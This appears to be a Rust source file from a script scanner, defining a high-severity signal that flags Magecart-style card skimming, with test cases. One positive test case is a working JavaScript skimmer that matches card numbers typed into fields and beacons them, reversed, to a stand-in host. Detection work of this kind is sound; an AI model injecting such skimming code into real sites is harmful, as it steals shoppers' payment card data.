//! `card-numbers-sought`.

use crate::facts::Atom;
use crate::signals::{Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "card-numbers-sought",
    description: "The script searches input fields for card numbers and sends field values to another host without waiting for a response.",
    severity: Severity::High,
    classes: ClassSet::MAGECART.union(ClassSet::MALWARE),
    needs: &[
        one(&[Atom::CardPattern]),
        one(&[Atom::FieldSentAbroad]),
        one(&[Atom::Beacon, Atom::FieldInAddress, Atom::Unanswered, Atom::Socket, Atom::PeerConnection]),
    ],
    within: 250,
    only_if: None,
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            "document.addEventListener('change',e=>{const v=e.target.value.replace(/[ -]/g,'');if(/^[3-6]\\d{12,18}$/.test(v))navigator.sendBeacon('https://c.example/g',v.split('').reverse().join(''))})",
        ],
        without: &[
            "f.onsubmit=()=>{if(!/^\\d{13,19}$/.test(card.value))return fail();fetch('/pay',{method:'POST',body:new FormData(f)})}",
            "t.value=t.value.replace(/\\d{13,19}/g,'*');fetch('https://chat.example/m',{method:'POST',body:t.value}).then(r=>r.json()).then(show)",
        ],
    },
};
